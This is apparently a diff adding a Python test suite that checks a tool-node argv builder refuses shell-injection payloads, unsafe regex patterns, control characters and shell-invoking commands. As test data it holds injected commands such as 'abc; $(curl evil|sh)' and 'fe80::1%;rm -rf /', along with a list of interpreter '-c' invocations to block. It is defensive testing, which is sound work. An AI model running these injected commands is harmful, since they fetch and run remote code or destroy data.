@@ -1,0 +1,382 @@
+"""Tool nodes: no payload reaches argv, through any pattern, format, command or value.
+
+The payload corpus is ``catalog/tool_nodes/payloads.json``. Property tests draw random patterns and
+random payloads; every pattern the analysis accepts is also sampled by hypothesis itself, so an
+unsound proof would show up as a generated value holding a probe.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
+
+from catalog.tool_nodes import (
+    build_argv,
+    build_invocation,
+    command_problem,
+    parse_node,
+    pattern_problem,
+    payload_corpus,
+    project,
+    unconstrained_reason,
+    word_problem,
+)
+from catalog.tool_nodes.formats import ARGV_SAFE_FORMATS, check_format
+from catalog.tool_nodes.node import SchemaRegistry
+from intent.errors import IntentError
+
+CORPUS_FILE = Path(__file__).resolve().parent.parent / "catalog" / "tool_nodes" / "payloads.json"
+CORPUS = payload_corpus()
+SHELL_CHARACTERS = [char for char in CORPUS.characters if char.isascii() and char.isprintable() and char != " "]
+
+
+def string_node(schema: dict[str, Any], *, command: list[str] | None = None) -> dict[str, Any]:
+    return {
+        "id": "probe",
+        "summary": "a node with one argv input of every kind",
+        "io": {"inputs": [
+            {"name": "value", "schema": schema, "arg": {"positional": 0}},
+            {"name": "option", "schema": schema, "arg": {"flag": "--option"}},
+        ]},
+        "invoke": {"shell": {"command": command or ["probe"]}},
+    }
+
+
+def holds_a_probe(word: str) -> bool:
+    return (
+        any(char in word for char in CORPUS.characters)
+        or any(probe in word for probe in CORPUS.substrings)
+        or word.startswith(CORPUS.leading)
+        or any(unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") or char.isspace() for char in word)
+    )
+
+
+# --- the corpus ------------------------------------------------------------------------------------
+
+
+def test_the_corpus_is_a_data_file_with_what_a_payload_looks_like() -> None:
+    raw = json.loads(CORPUS_FILE.read_text(encoding="utf-8"))
+    assert set(raw) >= {"characters", "substrings", "leading", "words"}
+    for needed in (";", "|", "&", "`", ">", "<", "'", '"', "\n", "\x00", "\u0085", "\u009b", "\u2028", "\u2029",
+                   "\u202e"):
+        assert needed in CORPUS.characters
+    assert {"$(", ".."} <= set(CORPUS.substrings)
+    assert "-" in CORPUS.leading
+    # Every control, format and separator character is a probe, not only those written in the file.
+    assert all(chr(code) in CORPUS.characters for code in [*range(0x20), *range(0x7F, 0xA0)])
+    assert "\u2066" in CORPUS.characters and "\u00a0" in CORPUS.characters
+
+
+@pytest.mark.parametrize("word", CORPUS.words)
+def test_every_corpus_word_is_refused_as_an_argv_word(word: str) -> None:
+    assert word_problem(word) is not None
+
+
+# --- patterns --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("pattern", "why"),
+    [
+        ("^.*$", "admits"),
+        ("^[a-z]+|x$", "whole value"),
+        ("[a-z]+", "whole value"),
+        ("^[a-z]+", "whole value"),
+        ("^a$|b", "whole value"),
+        ("^[a-z0-9-]+$", "starting with '-'"),
+        ("^[a-z.]+$", "'..'"),
+        ("^[a-z$(]+$", "'$('"),
+        ("^[^;]+$", "admits"),
+        (r"^\S+$", "admits"),
+        (r"^[\w ]+$", "admits"),
+        ("^[a-z\u202e]+$", "U+202E"),
+        ("^[a-z\u2028]+$", "U+2028"),
+        ("^[a-z\x85]+$", "U+0085"),
+        (r"^(a)\1$", "cannot be proved"),
+        ("(?m)^a$", "cannot be proved"),
+        (r"^[a-z]+(?:;[a-z]+)?$", "';'"),
+        ("^(?i:[a-z|]+)$", "'|'"),
+    ],
+)
+def test_patterns_that_do_not_prove_safety_are_unconstrained(pattern: str, why: str) -> None:
+    reason = pattern_problem(pattern)
+    assert reason is not None and why in reason
+    schema = {"type": "string", "pattern": pattern}
+    assert unconstrained_reason(schema) is not None
+    projection = project([string_node(schema)])
+    assert projection.tools == []
+    assert [item.kind for item in projection.omitted] == ["unconstrained_argv"]
+
+
+def test_a_pattern_python_cannot_read_makes_the_node_undeterminable() -> None:
+    assert pattern_problem(r"^\p{L}+$") is not None
+    with pytest.raises(IntentError) as unreadable:
+        project([string_node({"type": "string", "pattern": r"^\p{L}+$"})])
+    assert unreadable.value.code == "CONFIG_INVALID"
+    assert unreadable.value.path == "/0/io/inputs/0/schema"
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [
+        "^[a-z0-9][a-z0-9-]*$",
+        r"^\d{6}$",
+        r"^[A-Z]{2}-\d{4}$",
+        r"^[a-z]+(\.[a-z]+)*$",
+        r"\A[a-z]+\Z",
+        "^(?:todo|done)$",
+        r"^[a-z]+$|^[0-9]+$",
+        r"^\w+$",
+        "^(?i)[a-z]+$".replace("^(?i)", "(?i)^"),
+        "^v[0-9]{1,3}(\\.[0-9]{1,3}){0,2}$",
+    ],
+)
+def test_patterns_that_rule_out_every_probe_are_constrained(pattern: str) -> None:
+    assert pattern_problem(pattern) is None
+    assert project([string_node({"type": "string", "pattern": pattern})]).omitted == []
+
+
+def test_the_two_reported_patterns_are_refused_and_their_payload_never_reaches_argv() -> None:
+    payload = "abc; $(curl evil|sh)"
+    for pattern in ("^.*$", "^[a-z]+|x$"):
+        raw = string_node({"type": "string", "pattern": pattern})
+        assert project([raw]).tools == []
+        with pytest.raises(IntentError) as refused:
+            build_argv(raw, {"value": payload})
+        assert refused.value.code == "INPUT_INVALID"
+        assert payload not in refused.value.message
+
+
+def test_a_pattern_must_match_the_whole_value_at_call_time() -> None:
+    # Anchored alternatives pass the analysis; JSON Schema's search would still accept "abc\n".
+    raw = string_node({"type": "string", "pattern": "^[a-z]+$|^[0-9]+$"})
+    assert build_argv(raw, {"value": "abc"}) == ["probe", "abc"]
+    for value in ("abc\n", "abc1", "1abc"):
+        with pytest.raises(IntentError, match="value"):
+            build_argv(raw, {"value": value})
+
+
+# Pieces random patterns are built from: safe and dangerous characters, classes and escapes.
+ATOMS = st.sampled_from([
+    "a", "b", "z", "0", "9", "_", "-", ".", "/", ":", "@", "+", "=", ",", ";", "|", "&", "$", "(", ")", "`", "'",
+    '"', "<", ">", " ", "\\n", "\\t", "\\x00", "\\x7f", "\\u0085", "\\u2028", "\\u202e", "[a-z]", "[A-Z0-9]",
+    "[a-z0-9-]", "[^a-z]", "[^;]", ".", "\\d", "\\w", "\\s", "\\S", "\\D", "\\W", "[.]", "[$(]", "[-a]",
+])
+QUANTIFIERS = st.sampled_from(["", "", "", "*", "+", "?", "{2}", "{1,3}", "{0,9}", "{12}"])
+
+
+@st.composite
+def random_patterns(draw: st.DrawFn) -> str:
+    def sequence() -> str:
+        return "".join(draw(ATOMS) + draw(QUANTIFIERS) for _ in range(draw(st.integers(1, 4))))
+
+    body = sequence()
+    if draw(st.booleans()):
+        body = f"(?:{body}|{sequence()})"
+    start = draw(st.sampled_from(["^", "^", "\\A", ""]))
+    end = draw(st.sampled_from(["$", "$", "\\Z", ""]))
+    if draw(st.integers(0, 9)) == 0:
+        return f"{start}{sequence()}|{sequence()}{end}"  # a top-level alternation, anchored once
+    return f"{start}{body}{end}"
+
+
+PAYLOADS = st.one_of(
+    st.sampled_from(CORPUS.words),
+    st.text(max_size=30),
+    st.builds(lambda head, probe, tail: head + probe + tail, st.text("abz09-.", max_size=6),
+              st.sampled_from([*SHELL_CHARACTERS, *CORPUS.substrings, "\n", "\x7f", "\u2028", "\u202e", " "]),
+              st.text("abz09-.", max_size=6)),
+    st.builds(lambda tail: "-" + tail, st.text("abz09", max_size=8)),
+)
+
+
+@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(pattern=random_patterns(), payloads=st.lists(PAYLOADS, min_size=1, max_size=6))
+def test_no_payload_reaches_argv_through_any_pattern(pattern: str, payloads: list[str]) -> None:
+    try:
+        re.compile(pattern)
+    except re.error:
+        assume(False)
+    raw = string_node({"type": "string", "pattern": pattern})
+    constrained = unconstrained_reason(raw["io"]["inputs"][0]["schema"]) is None
+    for payload in payloads:
+        try:
+            argv = build_argv(raw, {"value": payload, "option": payload})
+        except IntentError as error:
+            assert error.code == "INPUT_INVALID"
+            continue
+        # Reaching here needs a pattern proved safe, and a value that is no payload at all.
+        assert constrained
+        assert argv == ["probe", "--option", payload, payload]
+        assert not holds_a_probe(payload)
+        assert re.fullmatch(pattern, payload)
+
+
+SAFE_LEANING_ATOMS = st.one_of(
+    st.sampled_from(["a", "z", "0", "_", "[a-z]", "[A-Z0-9]", "\\d", "\\w", "[a-z0-9-]", "-", ".", "[.]", ":", "/"]),
+    ATOMS,
+)
+
+
+@st.composite
+def anchored_patterns(draw: st.DrawFn) -> str:
+    """Anchored patterns mostly of safe pieces: the analysis accepts many of them."""
+    def sequence() -> str:
+        return "".join(draw(SAFE_LEANING_ATOMS) + draw(QUANTIFIERS) for _ in range(draw(st.integers(1, 4))))
+
+    body = sequence()
+    if draw(st.booleans()):
+        body += f"(?:{sequence()}|{sequence()})" + draw(st.sampled_from(["", "*", "?", "{0,3}"]))
+    return f"^{body}$"
+
+
+@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
+@given(data=st.data(), pattern=anchored_patterns())
+def test_values_of_an_accepted_pattern_never_hold_a_probe(data: st.DataObject, pattern: str) -> None:
+    """Soundness of the proof: hypothesis samples the accepted pattern's own language."""
+    try:
+        re.compile(pattern)
+    except re.error:
+        assume(False)
+    assume(pattern_problem(pattern) is None)
+    for _ in range(5):
+        value = data.draw(st.from_regex(pattern, fullmatch=True))
+        assert not holds_a_probe(value), (pattern, value)
+
+
+# --- formats ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", sorted(ARGV_SAFE_FORMATS))
+def test_no_corpus_word_passes_an_argv_safe_format(name: str) -> None:
+    for word in CORPUS.words:
+        assert not check_format(name, word)
+    for char in CORPUS.characters:
+        assert not check_format(name, "2026-01-01" + char) and not check_format(name, "host" + char)
+
+
+@pytest.mark.parametrize("value", ["fe80::1%;rm -rf /", "host\n", "2026-01-01\n", "2026-01-01 10:00:00Z"])
+def test_formats_refuse_what_their_loose_readings_would_let_through(value: str) -> None:
+    assert not any(check_format(name, value) for name in ARGV_SAFE_FORMATS)
+
+
+@pytest.mark.parametrize("name", ["email", "uri"])
+def test_formats_whose_values_can_spell_a_payload_do_not_constrain_argv(name: str) -> None:
+    assert unconstrained_reason({"type": "string", "format": name}) is not None
+
+
+# --- words -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "char", ["\x00", "\x01", "\x1b", "\x7f", "\u0085", "\u009b", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f",
+             "\ufeff"],
+)
+def test_control_and_format_characters_in_an_argv_word_are_refused(char: str) -> None:
+    raw = string_node({"type": "string", "pattern": "^[a-z]+$"}) | {}
+    # Even where the schema itself would allow the character, the word check refuses it.
+    raw["io"]["inputs"][0]["schema"] = {"type": "string", "enum": ["ok"]}
+    raw["io"]["inputs"][1]["schema"] = {"type": "string", "format": "hostname"}
+    with pytest.raises(IntentError) as refused:
+        build_argv(raw, {"option": f"a{char}b"})
+    assert refused.value.path == "/arguments/option"
+    assert word_problem(f"a{char}b") == "contains control, formatting or white-space characters"
+
+
+def test_positionals_declared_out_of_order_come_out_in_position_order() -> None:
+    raw = {
+        "id": "copy",
+        "summary": "copy",
+        "io": {"inputs": [
+            {"name": "target", "schema": {"type": "string", "enum": ["b.txt"]}, "arg": {"positional": 1}},
+            {"name": "verbose", "schema": {"type": "boolean"}, "arg": {"flag": "-v"}},
+            {"name": "source", "schema": {"type": "string", "enum": ["a.txt"]}, "arg": {"positional": 0}},
+            {"name": "rest", "schema": {"type": "integer"}, "repeated": True, "arg": {"positional": 7}},
+        ]},
+        "invoke": {"shell": {"command": ["cp"]}},
+    }
+    argv = build_argv(raw, {"target": "b.txt", "verbose": True, "source": "a.txt", "rest": [3, 4]})
+    assert argv == ["cp", "-v", "a.txt", "b.txt", "3", "4"]
+
+
+@pytest.mark.parametrize(
+    ("value", "fragment"),
+    [(10**5000, "2^63"), (2**63, "2^63"), (-(2**63), "2^63"), (1e300, "2^63"), (float("inf"), "finite")],
+    ids=["5000-digits", "2^63", "-2^63", "1e300", "infinity"],
+)
+def test_huge_numbers_are_a_coded_refusal(value: Any, fragment: str) -> None:
+    raw = string_node({"type": "number"})
+    with pytest.raises(IntentError) as refused:
+        build_argv(raw, {"option": value})
+    assert refused.value.code == "INPUT_INVALID" and fragment in refused.value.message
+
+
+def test_numbers_render_as_argv_words_and_a_negative_one_only_after_a_flag() -> None:
+    raw = string_node({"type": "number"})
+    assert build_argv(raw, {"option": 1e3, "value": 2.5}) == ["probe", "--option", "1000", "2.5"]
+    assert build_argv(raw, {"option": -4}) == ["probe", "--option", "-4"]
+    with pytest.raises(IntentError, match="'-'"):
+        build_argv(raw, {"value": -4})
+
+
+# --- commands --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["sh", "-c", "echo"], ["bash", "-c", "x"], ["/bin/bash", "-lc", "x"], ["env", "sh", "-c", "x"],
+        ["/usr/bin/env", "-i", "PATH=/bin", "python3", "-c", "print()"], ["python", "-c", "x"],
+        ["perl", "-e", "x"], ["perl", "-ne", "x"], ["ruby", "-e", "x"], ["node", "-e", "x"], ["node", "--eval=x"],
+        ["php", "-r", "x"], ["busybox", "sh", "-c", "x"], ["timeout", "5", "zsh", "-c", "x"],
+        ["env", "-S", "sh -c x"], ["xargs", "rm"], ["nice", "-n", "5", "dash", "-c", "x"],
+        ["env", "--unknown-option", "value", "bash", "-c", "x"],
+    ],
+)
+def test_shells_by_another_name_are_refused(command: list[str]) -> None:
+    raw = string_node({"type": "integer"}, command=command)
+    projection = project([raw])
+    assert [item.kind for item in projection.omitted] == ["unsafe_command"]
+    assert projection.omitted[0].pointer == "/0/invoke/shell/command"
+    assert command_problem(command, code_inputs=True) is not None
+    with pytest.raises(IntentError) as refused:
+        build_argv(raw, {"value": 1})
+    assert refused.value.path == "/invoke"
+
+
+def test_an_interpreter_without_a_script_is_refused_when_inputs_would_be_its_program() -> None:
+    stdin_node = {"id": "run", "summary": "x", "io": {"inputs": [{"name": "code", "schema": {"type": "string"},
+                                                                  "arg": "stdin"}]},
+                  "invoke": {"shell": {"command": ["bash"]}}}
+    assert [item.kind for item in project([stdin_node]).omitted] == ["unsafe_command"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["python3", "tool.py"], ["python3", "-m", "json.tool"], ["awk", "{print $1}"], ["bash", "script.sh"],
+     ["env", "ls", "-l"], ["timeout", "-s", "KILL", "5", "date"], ["wc", "-l"], ["grep", "-c", "-e", "x"]],
+)
+def test_programs_and_scripts_named_in_the_command_are_fine(command: list[str]) -> None:
+    assert command_problem(command, code_inputs=True) is None
+    assert project([string_node({"type": "integer"}, command=command)]).omitted == []
+
+
+def test_stdin_text_stays_out_of_argv_whatever_it_holds() -> None:
+    raw = {"id": "mail", "summary": "x", "io": {"inputs": [{"name": "body", "schema": {"type": "string"},
+                                                             "arg": "stdin"}]},
+           "invoke": {"shell": {"command": ["wc"]}}}
+    for word in CORPUS.words:
+        invocation = build_invocation(raw, {"body": word})
+        assert invocation.argv == ["wc"] and invocation.stdin == word.encode("utf-8")
+
+
+def test_declared_enum_values_are_the_nodes_own_words() -> None:
+    node = parse_node(string_node({"type": "string", "enum": ["--all", "a b"]}), SchemaRegistry())
+    assert build_argv(node, {"option": "a b", "value": "--all"}) == ["probe", "--option", "a b", "--all"]
